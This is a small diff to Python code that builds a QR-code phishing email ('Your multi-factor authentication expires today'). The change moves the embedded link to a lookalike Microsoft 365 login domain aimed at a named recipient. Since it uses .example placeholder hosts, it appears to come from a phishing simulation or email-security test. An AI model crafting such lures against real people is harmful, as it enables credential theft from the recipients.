@@ -66,7 +66,7 @@ def qr():
     made.set_content("Scan the code.\n")
     made.add_alternative('<p>Your multi-factor authentication expires today. Scan the code with your phone to keep access to your account.</p>'
                          '<img src="cid:code">', subtype="html")
-    made.get_payload()[1].add_related(png_of("https://login.sender.example/m365/verify?u=a.khan@else.example"), "image", "png", cid="<code>")
+    made.get_payload()[1].add_related(png_of("https://m365-login.shop.example/verify?u=a.khan@else.example"), "image", "png", cid="<code>")
     return sent(made)
 
 
